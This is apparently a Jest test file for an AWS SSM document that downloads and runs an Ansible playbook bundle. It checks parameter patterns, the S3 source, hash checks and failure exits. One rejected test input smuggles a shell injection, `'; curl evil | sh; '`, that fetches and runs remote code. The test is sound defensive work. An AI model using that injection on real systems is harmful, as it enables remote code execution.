/**
 * The stage's SSM document, as a pure function: what it accepts, where it
 * downloads from, and what its two shell steps do, run here with bash the
 * way SSM Agent runs them after substituting the parameters (the host's
 * bundle directory moved to a temporary one, ansible-playbook a stub that
 * records its arguments).
 */
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { playbookBundle } from '../../../plan/ssm/bundle';
import {
  BATCH_PATTERN,
  BUNDLE_KEY_PATTERN,
  hostBundleDir,
  MODE_PATTERN,
  ssmApplyDocument,
  ssmCommandLine,
  ssmDocumentName,
  ssmExtraVariables,
  ssmPlaybookArgs,
} from '../../../plan/ssm/ssm-document';
import { tempDir } from '../../support/fixtures';

const DOMAIN = 'observability-rollout-lab-ssm-123456789012.s3.us-east-1.amazonaws.com';
const doc = ssmApplyDocument({ stage: 'lab', bucket: 'observability-rollout-lab-ssm-123456789012', bucketRegionalDomain: DOMAIN, timeoutSeconds: 600 });
const bundle = playbookBundle([{ path: 'playbooks/ssm-apply.yml', bytes: Buffer.from('- hosts: localhost\n') }]);

/** A step's script with the parameters substituted as SSM Agent does (`{{ Name }}` -> value) and the host's bundle directory moved. */
function script(step: number, values: Record<string, string>, dir: string): string {
  const lines = doc.mainSteps[step].inputs.runCommand as string[];
  return lines
    .join('\n')
    .replace(/\{\{ (\w+) \}\}/g, (_m, name: string) => values[name])
    .split(hostBundleDir('lab'))
    .join(`${dir}/`);
}

function bash(text: string, env: NodeJS.ProcessEnv = process.env): { code: number | null; out: string } {
  const res = spawnSync('bash', ['-c', text], { encoding: 'utf8', env });
  return { code: res.status, out: `${res.stdout}${res.stderr}` };
}

describe('the stage SSM document', () => {
  test('schema 2.2, named for the stage, three parameters each held to a strict pattern', () => {
    expect(ssmDocumentName('lab')).toBe('observability-rollout-lab-apply');
    expect(doc.schemaVersion).toBe('2.2');
    expect(Object.entries(doc.parameters).map(([name, p]) => [name, p.type, p.allowedPattern])).toEqual([
      ['BundleKey', 'String', BUNDLE_KEY_PATTERN],
      ['Batch', 'String', BATCH_PATTERN],
      ['Mode', 'String', MODE_PATTERN],
    ]);
  });

  test.each([
    [BUNDLE_KEY_PATTERN, bundle.key, true],
    [BUNDLE_KEY_PATTERN, `bundles/${'a'.repeat(63)}.zip`, false],
    [BUNDLE_KEY_PATTERN, `bundles/${'A'.repeat(64)}.zip`, false],
    [BUNDLE_KEY_PATTERN, `bundles/../${'a'.repeat(61)}.zip`, false],
    [BUNDLE_KEY_PATTERN, `output/${'a'.repeat(64)}.zip`, false],
    [BUNDLE_KEY_PATTERN, `${bundle.key}\n`, false],
    [BUNDLE_KEY_PATTERN, `${bundle.key}'; curl evil | sh; '`, false],
    [BATCH_PATTERN, '3', true],
    [BATCH_PATTERN, '6', false],
    [BATCH_PATTERN, '1 2', false],
    [MODE_PATTERN, 'rollback', true],
    [MODE_PATTERN, 'apply ', false],
    [MODE_PATTERN, 'install', false],
    // JavaScript reads these like Go's regexp, which SSM Agent applies: without the m flag `$` is the end of the text.
  ])('pattern %s on %j: %s', (pattern, value, ok) => {
    expect(new RegExp(pattern).test(value)).toBe(ok);
  });

  test('downloads only from the stage bucket, to the stage directory; the first two steps stop the run when they fail', () => {
    expect(doc.mainSteps.map((s) => [s.action, s.name, s.inputs.onFailure])).toEqual([
      ['aws:runShellScript', 'checkParameters', 'exit'],
      ['aws:downloadContent', 'downloadBundle', 'exit'],
      ['aws:runShellScript', 'runPlaybook', undefined],
    ]);
    const download = doc.mainSteps[1].inputs;
    expect(download.sourceType).toBe('S3');
    expect(JSON.parse(download.sourceInfo as string)).toEqual({ path: `https://${DOMAIN}/{{ BundleKey }}` });
    expect(download.destinationPath).toBe('/var/lib/observability-rollout/ssm/lab/');
    expect(doc.mainSteps[2].inputs.timeoutSeconds).toBe('600');
  });

  test('the command line is the one AWS-ApplyAnsiblePlaybooks runs, with the stage fixed', () => {
    expect(ssmPlaybookArgs(ssmExtraVariables('lab', 2, 'rollback'))).toEqual([
      '-i',
      'localhost,',
      '-c',
      'local',
      '-e',
      'SSM=True rollout_stage=lab rollout_batch=2 rollout_ssm_mode=rollback',
      '-v',
      'playbooks/ssm-apply.yml',
    ]);
    const lines = doc.mainSteps[2].inputs.runCommand as string[];
    expect(lines[lines.length - 1]).toBe(ssmCommandLine(ssmExtraVariables('lab', '{{ Batch }}', '{{ Mode }}')));
  });

  test('no `${` of its own: the content passes through Terraform, where `${` interpolates', () => {
    expect(JSON.stringify(doc)).not.toContain('${');
  });

  test('fails when a step gets a value the patterns refuse: the shell checks them again and stops', () => {
    const dir = tempDir('rollout-ssm-doc-');
    const good = bash(script(0, { BundleKey: bundle.key, Batch: '1', Mode: 'apply' }, dir));
    expect(good).toEqual({ code: 0, out: '' });
    const bad = bash(script(0, { BundleKey: 'bundles/x.zip', Batch: '9', Mode: 'apply' }, dir));
    expect(bad).toEqual({ code: 2, out: 'lab: BundleKey bundles/x.zip is not bundles/<sha256>.zip\n' });
    fs.rmSync(dir, { recursive: true, force: true });
  });

  describe('the run step', () => {
    const dir = tempDir('rollout-ssm-run-');
    const bin = path.join(dir, 'bin');
    const record = path.join(dir, 'argv.json');
    const env = { ...process.env, PATH: `${bin}:${process.env.PATH ?? ''}` };
    const values = { BundleKey: bundle.key, Batch: '2', Mode: 'rollback' };

    beforeAll(() => {
      fs.mkdirSync(bin);
      // Records its arguments and whether it runs inside the unpacked bundle.
      fs.writeFileSync(
        path.join(bin, 'ansible-playbook'),
        `#!/usr/bin/env python3\nimport json, os, sys\njson.dump({"argv": sys.argv[1:], "playbook": os.path.isfile("playbooks/ssm-apply.yml")}, open(${JSON.stringify(record)}, "w"))\n`,
        { mode: 0o755 },
      );
    });
    afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

    test('unpacks the downloaded bundle and runs the command line with the association values; earlier bundles are removed', () => {
      fs.writeFileSync(path.join(dir, `${bundle.sha256}.zip`), bundle.bytes);
      fs.writeFileSync(path.join(dir, `${'0'.repeat(64)}.zip`), 'an earlier bundle');
      expect(bash(script(2, values, dir), env)).toEqual({ code: 0, out: '' });
      expect(JSON.parse(fs.readFileSync(record, 'utf8'))).toEqual({ argv: ssmPlaybookArgs(ssmExtraVariables('lab', 2, 'rollback')), playbook: true });
      expect(fs.readdirSync(dir).sort()).toEqual([`${bundle.sha256}.zip`, 'argv.json', 'bin'].sort());
    });

    test('fails when the downloaded bytes are not the ones the key names', () => {
      fs.writeFileSync(path.join(dir, `${bundle.sha256}.zip`), Buffer.concat([bundle.bytes, Buffer.from('x')]));
      const res = bash(script(2, values, dir), env);
      expect(res.code).toBe(3);
      expect(res.out).toMatch(new RegExp(`^lab: ${dir}/${bundle.sha256}\\.zip has SHA-256 [0-9a-f]{64}, not the one its key names\\n$`));
    });

    test('fails when nothing was downloaded, naming the bucket and key', () => {
      fs.rmSync(path.join(dir, `${bundle.sha256}.zip`));
      const res = bash(script(2, values, dir), env);
      expect(res).toEqual({
        code: 3,
        out: `lab: ${dir}/${bundle.sha256}.zip was not downloaded from s3://observability-rollout-lab-ssm-123456789012/${bundle.key}\n`,
      });
    });
  });
});
